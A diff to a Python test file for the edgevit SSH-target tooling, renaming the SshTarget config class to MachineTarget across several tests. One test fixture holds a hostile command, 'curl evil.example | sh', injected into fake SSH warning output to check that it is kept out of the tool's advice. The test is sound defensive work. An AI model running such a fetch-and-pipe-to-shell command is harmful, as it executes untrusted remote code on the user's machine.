@@ -12,7 +12,7 @@ from socket import create_server
 
 import pytest
 
-from edgevit.configs import SshTarget
+from edgevit.configs import MachineTarget
 from edgevit.configs.targets import ssh_address
 from edgevit.errors import MissingDependency, TargetError
 from edgevit.targets.agent_session import AgentSession
@@ -253,11 +253,11 @@ def test_two_clients_share_a_host_but_not_its_lock(host: SshHost, tmp_path: Path
 
 
 CLIENT = """
-from edgevit.configs import SshTarget
+from edgevit.configs import MachineTarget
 from edgevit.targets.named import NamedTarget
 from edgevit.targets.reach import reached
 import sys
-config = SshTarget(host=sys.argv[1], python=sys.argv[2], work_folder=sys.argv[3])
+config = MachineTarget(host=sys.argv[1], python=sys.argv[2], work_folder=sys.argv[3])
 with reached(NamedTarget("board", config)) as agent:
     command = {"arguments": ["sh", "-c", "echo $$ > $HOME/child; exec sleep 60"], "timeout_s": 60}
     agent.ask_for_json("probe", commands=[command])
@@ -291,11 +291,11 @@ def test_a_line_that_drops_is_said(host: SshHost) -> None:
 
 def test_no_ssh_program_is_said(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
     monkeypatch.setenv("PATH", str(tmp_path))
-    with pytest.raises(MissingDependency, match="no ssh"), reached(NamedTarget("b", SshTarget(host="ssh://b"))):
+    with pytest.raises(MissingDependency, match="no ssh"), reached(NamedTarget("b", MachineTarget(host="ssh://b"))):
         pass
 
 
-BOARD = SshTarget(host="ssh://me@board.local:2222")
+BOARD = MachineTarget(host="ssh://me@board.local:2222")
 
 
 @pytest.mark.parametrize(
@@ -428,11 +428,11 @@ def test_what_is_no_address_is_refused(text: str) -> None:
 )  # fmt: skip
 def test_a_wrong_setting_is_refused(field: str, value: str) -> None:
     with pytest.raises(ValueError):
-        SshTarget.model_validate({"host": "ssh://board", field: value})
+        MachineTarget.model_validate({"host": "ssh://board", field: value})
 
 
 def test_a_hostile_host_puts_no_command_into_the_advice() -> None:
-    target = SshTarget(host="ssh://board")
+    target = MachineTarget(host="ssh://board")
     printed = "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nssh-keygen -R board; curl evil.example | sh\n"
     error = failure("pi", target, 255, printed)
     assert error.what.startswith("the host's key has changed")
